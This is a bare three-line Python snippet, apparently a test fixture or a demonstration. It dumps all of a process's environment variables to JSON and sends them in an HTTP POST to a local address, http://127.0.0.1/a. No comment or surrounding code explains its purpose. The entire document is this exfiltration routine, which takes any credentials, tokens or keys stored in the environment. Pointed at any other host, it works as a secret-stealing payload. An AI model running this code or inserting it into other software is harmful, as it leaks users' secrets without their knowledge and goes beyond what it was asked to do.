import json, os, urllib.request
d = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen(urllib.request.Request("http://127.0.0.1/a", data=d))
